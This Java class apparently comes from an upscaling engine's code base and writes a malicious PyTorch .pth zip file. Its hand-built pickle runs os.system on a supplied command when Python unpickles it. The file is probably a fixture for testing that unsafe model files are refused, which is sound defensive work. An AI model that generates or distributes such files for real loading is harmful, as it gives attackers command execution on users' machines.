package dev.diffarm.engine.upscale;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * A torch zip file whose pickle, if run by Python's unpickler, calls {@code os.system(command)}: the classic
 * malicious {@code .pth}. Built byte by byte here so that no Python is needed.
 */
public final class HostilePickle {
    private HostilePickle() {
    }

    /** Writes the file at {@code path} and returns it. */
    public static Path write(Path path, String command) throws IOException {
        byte[] argument = command.getBytes(StandardCharsets.UTF_8);
        java.io.ByteArrayOutputStream pickle = new java.io.ByteArrayOutputStream();
        pickle.write(new byte[] {(byte) 0x80, 2}); // PROTO 2
        pickle.write("cos\nsystem\n".getBytes(StandardCharsets.US_ASCII)); // GLOBAL os.system
        pickle.write('X'); // BINUNICODE
        pickle.write(new byte[] {(byte) argument.length, (byte) (argument.length >> 8), (byte) (argument.length >> 16),
                (byte) (argument.length >> 24)});
        pickle.write(argument);
        pickle.write(0x85); // TUPLE1
        pickle.write('R'); // REDUCE: os.system(command)
        pickle.write('.'); // STOP
        try (OutputStream file = Files.newOutputStream(path); ZipOutputStream zip = new ZipOutputStream(file)) {
            zip.putNextEntry(new ZipEntry("evil/data.pkl"));
            zip.write(pickle.toByteArray());
            zip.closeEntry();
        }
        return path;
    }
}
